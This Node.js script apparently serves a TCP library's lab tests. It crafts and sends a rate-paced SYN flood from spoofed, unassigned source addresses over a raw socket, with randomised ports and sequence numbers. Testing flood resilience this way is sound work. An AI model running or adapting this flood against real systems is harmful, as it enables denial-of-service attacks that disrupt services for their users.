// A SYN flood from spoofed sources, crafted with tcplab's codecs and sent through a raw socket from one
// side of a lab (test/hostile/synflood.test.ts). Sources cycle through `sources` consecutive addresses
// from `firstSource` (counting on past the last octet: 20,000 sources from 198.19.0.0 reach 198.19.78.31)
// that no host holds (so every SYN+ACK goes nowhere), with random ports and sequence numbers and the
// options a Linux client sends. Paced at `rate` SYNs per second in 10 ms slices.
//   node flood.mjs '<json>'   {dst, port, count, rate, firstSource, sources, seed}
// stdin "count" → {type:'count', sent}. At the end: {type:'done', sent, sendErrors, ms}.
import { createInterface } from 'node:readline'
import { parseIp } from '../../dist/net/addr.js'
import { openRawDevice } from '../../dist/net/rawdev.js'
import { emitTcpPacket } from '../../dist/net/packet.js'
import { mulberry32 } from '../../dist/net/prng.js'

const o = JSON.parse(process.argv[2])
const emit = (v) => process.stdout.write(`${JSON.stringify(v)}\n`)
const dst = parseIp(o.dst)
const base = parseIp(o.firstSource)
const base32 = ((base[0] << 24) | (base[1] << 16) | (base[2] << 8) | base[3]) >>> 0
const rnd = mulberry32(o.seed).nextU32

const dev = openRawDevice({ family: 4 })
dev.onReceive(() => {})
const buf = new Uint8Array(80)
const src = Uint8Array.from(base)
const options = [{ kind: 'mss', value: 1460 }, { kind: 'sackPermitted' }, { kind: 'timestamp', value: 0, echo: 0 }, { kind: 'nop' }, { kind: 'wscale', shift: 7 }]
const syn = { srcPort: 0, dstPort: o.port, seq: 0, ack: 0, flags: 0x02, window: 64240, urgent: 0, options, payload: new Uint8Array(0) }
const ip = { src, dst, ttl: 64, id: 0, dontFragment: true }

let sent = 0
createInterface({ input: process.stdin }).on('line', (l) => {
  if (l.trim() === 'count') emit({ type: 'count', sent })
})

const t0 = performance.now()
const perSlice = Math.max(1, Math.round(o.rate / 100))
while (sent < o.count) {
  const sliceStart = performance.now()
  for (let k = 0; k < perSlice && sent < o.count; k++, sent++) {
    const a = (base32 + (sent % o.sources)) >>> 0
    src[0] = a >>> 24
    src[1] = (a >>> 16) & 0xff
    src[2] = (a >>> 8) & 0xff
    src[3] = a & 0xff
    syn.srcPort = 1024 + (Math.floor(sent / o.sources) % 64000)
    syn.seq = rnd()
    options[2].value = rnd()
    ip.id = sent & 0xffff
    const n = emitTcpPacket(ip, syn, buf, 0)
    dev.send(buf.subarray(0, n))
  }
  const wait = 10 - (performance.now() - sliceStart)
  await new Promise((r) => setTimeout(r, wait > 0 ? wait : 0))
}
const st = dev.stats()
dev.close()
emit({ type: 'done', sent, sendErrors: st.sendErrors, ms: Math.round(performance.now() - t0) })
process.exit(0)
